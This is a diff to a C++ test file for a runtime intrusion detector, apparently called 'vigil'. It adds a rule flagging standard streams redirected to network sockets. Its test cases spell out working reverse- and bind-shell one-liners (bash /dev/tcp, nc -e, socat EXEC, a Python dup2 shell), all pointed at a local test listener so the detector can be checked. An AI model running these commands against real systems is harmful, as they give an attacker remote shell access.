@@ -42,6 +42,7 @@ constexpr char kWebShell[] = "Shell spawned by a web server";
 constexpr char kShellConnect[] = "Shell opened a network connection";
 constexpr char kNetcat[] = "Netcat or socat program execution";
 constexpr char kReverse[] = "Reverse shell";
+constexpr char kStdioRedirect[] = "Standard stream redirected to a network connection";
 constexpr char kMount[] = "Mount inside a container";
 constexpr char kSetns[] = "Namespace change inside a container";
 constexpr char kProcSys[] = "Kernel parameter write from a container";
@@ -252,11 +253,13 @@ TEST_F(DefaultRulesBehaviour, BashDevTcpConnection) {
   std::thread server([&] { got = l.ServeOne(""); });
   auto alerts = Behave("exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(l.port()) +
                            "; echo vigil-reverse >&3; exec 3>&-'",
-                       {kShellConnect});
+                       {kShellConnect, kStdioRedirect});
   server.join();
   EXPECT_NE(got.find("vigil-reverse"), std::string::npos);
   ExpectAlert(alerts, kShellConnect, "bash");
-  ExpectOnly(alerts, {kShellConnect});
+  // `echo ... >&3` points bash's own stdout at the socket (dup2) for the echo.
+  ExpectAlert(alerts, kStdioRedirect, "bash");
+  ExpectOnly(alerts, {kShellConnect, kStdioRedirect});
 }
 
 TEST_F(DefaultRulesBehaviour, NetcatExecAndSocatExec) {
@@ -269,13 +272,14 @@ TEST_F(DefaultRulesBehaviour, NetcatExecAndSocatExec) {
   std::thread server([&] { got = l.ServeOne("echo vigil-shell-$((6*7))\nexit\n"); });
   auto alerts = Behave("busybox nc 127.0.0.1 " + std::to_string(l.port()) + " -e /bin/sh && cp /bin/true " +
                            dir_ / "socat" + " && " + dir_ / "socat" + " TCP:127.0.0.1:1 EXEC:/bin/sh,pty,stderr",
-                       {kNetcat, kReverse});
+                       {kNetcat, kReverse, kStdioRedirect});
   server.join();
   EXPECT_NE(got.find("vigil-shell-42"), std::string::npos) << got;
   ExpectAlert(alerts, kNetcat, "busybox");
   ExpectAlert(alerts, kNetcat, "socat");
   ExpectAlert(alerts, kReverse, "sh");
-  ExpectOnly(alerts, {kNetcat, kReverse});
+  ExpectAlert(alerts, kStdioRedirect, "busybox");  // nc dup2()s the socket before exec
+  ExpectOnly(alerts, {kNetcat, kReverse, kStdioRedirect});
 }
 
 TEST_F(DefaultRulesBehaviour, ReverseShellBashDevTcp) {
@@ -287,12 +291,13 @@ TEST_F(DefaultRulesBehaviour, ReverseShellBashDevTcp) {
   std::thread server([&] { got = l.ServeOne("echo vigil-shell-$((6*7))\nexit\n"); });
   auto alerts = Behave("exec bash -c 'bash --norc -i >& /dev/tcp/127.0.0.1/" + std::to_string(l.port()) +
                            " 0>&1'",
-                       {kShellConnect, kReverse});
+                       {kShellConnect, kReverse, kStdioRedirect});
   server.join();
   EXPECT_NE(got.find("vigil-shell-42"), std::string::npos) << got;
   ExpectAlert(alerts, kShellConnect, "bash");
   ExpectAlert(alerts, kReverse, "bash");
-  ExpectOnly(alerts, {kShellConnect, kReverse});
+  ExpectAlert(alerts, kStdioRedirect, "bash");
+  ExpectOnly(alerts, {kShellConnect, kReverse, kStdioRedirect});
 }
 
 TEST_F(DefaultRulesBehaviour, ReverseShellPythonDup2) {
@@ -305,11 +310,12 @@ TEST_F(DefaultRulesBehaviour, ReverseShellPythonDup2) {
   auto alerts = Behave("exec /usr/bin/python3 -c 'import os, socket; s = socket.create_connection((\"127.0.0.1\", " +
                            std::to_string(l.port()) +
                            ")); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv(\"/bin/sh\", [\"sh\", \"-i\"])'",
-                       {kReverse});
+                       {kReverse, kStdioRedirect});
   server.join();
   EXPECT_NE(got.find("vigil-shell-42"), std::string::npos) << got;
   ExpectAlert(alerts, kReverse, "sh");
-  ExpectOnly(alerts, {kReverse});
+  ExpectAlert(alerts, kStdioRedirect, "python3");
+  ExpectOnly(alerts, {kReverse, kStdioRedirect});
 }
 
 // ---- privilege escalation -----------------------------------------------------------
@@ -650,9 +656,10 @@ TEST_F(DefaultRulesContainer, BindShellInsideAContainer) {
   auto alerts = BehaveInContainer(
       "--network none",
       "nc -l -p 4444 -e /bin/sh & sleep 0.5; echo 'echo bound-$((6*7)); exit' | nc 127.0.0.1 4444 | grep -q bound-42",
-      {kReverse});
+      {kReverse, kStdioRedirect});
   ExpectAlert(alerts, kReverse, "sh");
-  ExpectOnly(alerts, {kReverse});
+  ExpectAlert(alerts, kStdioRedirect, "nc");  // the listener dup2()s the accepted socket
+  ExpectOnly(alerts, {kReverse, kStdioRedirect});
 }
 
 TEST_F(DefaultRulesContainer, IntrusionStepsInsideAContainer) {
